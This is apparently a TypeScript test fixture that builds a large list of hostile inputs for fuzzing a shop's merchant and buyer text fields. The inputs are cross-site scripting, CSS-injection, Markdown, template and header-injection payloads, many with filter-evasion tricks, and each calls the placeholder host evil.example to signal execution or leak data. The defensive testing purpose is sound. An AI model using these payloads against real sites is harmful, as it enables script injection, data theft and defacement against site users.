/** The host that a payload would contact if it ran or loaded something. */
const EVIL = 'https://evil.example';
const RUN = `top.__ran=1;fetch('${EVIL}/ran')`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`;
const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString('base64');

/**
 * An element of every kind that loads, runs or takes focus on its own, closing any open context
 * first.
 */
const BREAKOUTS = ['', '">', "'>", '`>', '-->', ']]>', '</title>', '</style>', '</datalist>'];
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload="${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<link rel=preload as=script href=${EVIL}/ran.js>`,
  `<style>@import "${EVIL}/css";</style>`,
];

const HANDLERS = [
  'onfocus',
  'onblur',
  'onanimationstart',
  'ontransitionend',
  'onpointerenter',
  'onbeforetoggle',
  'onscrollend',
].flatMap((name) => [
  `" ${name}="${RUN}" autofocus tabindex="0`,
  `' ${name}='${RUN}' autofocus tabindex='0`,
  `x/${name}=${RUN}//`,
]);

const MARKUP = [
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT\u00a0SRC=//evil.example/ran.js></SCRIPT>`,
  `<script/x>${RUN}</script\t\n bar>`,
  `<script type=module>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<template><script>${RUN}</script></template>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,${encodeURIComponent(SVG)}#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<button form=pay formaction=${EVIL}/ran>x</button>`,
  `<input type=image src=x onerror="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<video poster="javascript:${RUN}"></video>`,
  `<portal src=${EVIL}/ran></portal>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<base target=_top href=${EVIL}/>`,
  `<dialog open><form method=dialog action=${EVIL}/ran></form></dialog>`,
  `<a href=# ping=${EVIL}/ran>x</a>`,
  `<area href="javascript:${RUN}">`,
  `<isindex action="javascript:${RUN}">`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<div style="background:url(${EVIL}/css)">x</div>`,
  `<object type="text/html" data="${EVIL}/ran"></object>`,
];

const ENTITIES = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&quot; onmouseover=&quot;${RUN}`,
  `&#34;&#62;<script>${RUN}</script>`,
  `&NewLine;<script>${RUN}</script>`,
  `%3Cscript%3E${encodeURIComponent(RUN)}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
];

const UNICODE = [
  `＜script＞${RUN}＜/script＞`,
  `\u2028<script>${RUN}</script>\u2029`,
  `\u202e<script>${RUN}</script>`,
  `\ufeff<script>${RUN}</script>`,
  `\u200b"><img src=x onerror=${RUN}>`,
  `\u212A\u017fcript:<ſcript>${RUN}</ſcript>`,
  `\u0130mg <\u0131mg src=x onerror=${RUN}>`,
  `${'\u0301'.repeat(200)}<script>${RUN}</script>`,
  `\u{e003c}\u{e0073}<script>${RUN}</script>`,
  `𝒿avascript:${RUN}`,
  `\u001f<script>${RUN}</script>`,
  `\u0085<script>${RUN}</script>`,
];

const ADDRESSES = [
  `javascript&colon;${RUN}`,
  `javascript&#58;${RUN}`,
  `java\rscript:${RUN}`,
  `\u0000javascript:${RUN}`.replace('\u0000', '\u0001'),
  `\u00a0javascript:${RUN}`,
  `javascript:/*--></title></style><script>${RUN}</script>`,
  `jAvAsCrIpT:${RUN}`,
  `javascript:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `data:text/html;base64,${BASE64}`,
  `data:text/html;charset=utf-7,+ADw-script+AD4-`,
  `data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}`,
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `data:,${RUN}`,
  `feed:javascript:${RUN}`,
  `jar:${EVIL}/x.jar!/x.html`,
  `mhtml:${EVIL}/x.html`,
  `livescript:${RUN}`,
  `filesystem:${EVIL}/temporary/x`,
  `ws://evil.example/`,
  `///evil.example/css`,
  `\\\\evil.example\\css`,
  `http:evil.example`,
  `https:/\tevil.example" onload="${RUN}`,
  `https://evil.example\\@x" onerror=${RUN} "`,
  `https://evil.example/x.png" srcset="${EVIL}/css 1x`,
  `https://evil.example/x.png' onload='${RUN}`,
  `https://evil.example/x.png?a=1&b="><script>${RUN}</script>`,
  `https://evil.example/x.png#"><svg onload=${RUN}>`,
  `https://[::1]/"><script>${RUN}</script>`,
  `intent://evil#Intent;scheme=javascript;end`,
];

const STYLES = [
  `red;}:root{--primary:url(${EVIL}/css)}`,
  `#fff;background-image:url(${EVIL}/css)`,
  `#fff}@font-face{font-family:x;src:url(${EVIL}/css)}`,
  `#fff}@namespace "x";@import '${EVIL}/css';`,
  `#fff\\7d *{background:url(${EVIL}/css)}`,
  `#fff/**/;}body{display:none}`,
  `rgb(0,0,0);}body:after{content:url(${EVIL}/css)}`,
  `#ｆｆｆ`,
  `#fff !important;}*{color:red}`,
  `8px;filter:url(${EVIL}/css#x)`,
  `8px/*`,
  `8px;}input[value^=a]{background:url(${EVIL}/css)}`,
  `8px;behavior:url(${EVIL}/css)`,
  `8px;-moz-binding:url(${EVIL}/css)`,
  `max(8px,url(${EVIL}/css))`,
  `8px\n}</style><script>${RUN}</script>`,
  `env(x,url(${EVIL}/css))`,
  `element(#pay)`,
];

const MARKDOWN = [
  `[x](JaVaScRiPt:${encodeURI(RUN)})`,
  `[x](javascript&colon;${encodeURI(RUN)})`,
  `[x](\u0001javascript:${encodeURI(RUN)})`,
  `[x](vbscript:x)`,
  `[x](<data:text/html;base64,${BASE64}>)`,
  `[x](https://evil.example "\\"onmouseover=${RUN} ")`,
  `[x][1]\n\n[1]: javascript:${encodeURI(RUN)} "t"`,
  `![x](data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')})`,
  `![x](https://evil.example/track.png "t")`,
  `[![x](https://evil.example/css)](javascript:${encodeURI(RUN)})`,
  `<https://evil.example/"onmouseover=${RUN}>`,
  `***<img src=x onerror="${RUN}">***`,
  `> <script>${RUN}</script>`,
  `1. <svg onload="${RUN}">`,
  `~~~"><script>${RUN}</script>\n~~~`,
  `| a |\n|--"style="x|\n| <script>${RUN}</script> |`,
  `    <script>${RUN}</script>`,
  `\`\`<script>${RUN}</script>\`\``,
  `\\<script>${RUN}\\</script>`,
  `[x]: <script>${RUN}</script>\n[x]`,
  `<details open ontoggle="${RUN}">x</details>`,
  `&#x5b;x&#x5d;(javascript:${encodeURI(RUN)})`,
];

const SYNTAX = [
  `{{7*7}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${alert(1)}`,
  `#{7*7}`,
  `<%= 7*7 %>`,
  `{amount, plural, other {x}}`,
  `{store}`,
  `'{'`,
  `__proto__`,
  `constructor`,
  `null`,
  `%s%n%d`,
  `\r\nSet-Cookie: a=1\r\n\r\n<script>${RUN}</script>`,
];

/** Texts a merchant or a buyer might put into a field (docs/contract/invariants.md#32). */
export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKOUTS.flatMap((breakout) => ELEMENTS.map((element) => breakout + element)),
  ...HANDLERS,
  ...MARKUP,
  ...ENTITIES,
  ...UNICODE,
  ...ADDRESSES,
  ...STYLES,
  ...MARKDOWN,
  ...SYNTAX,
];
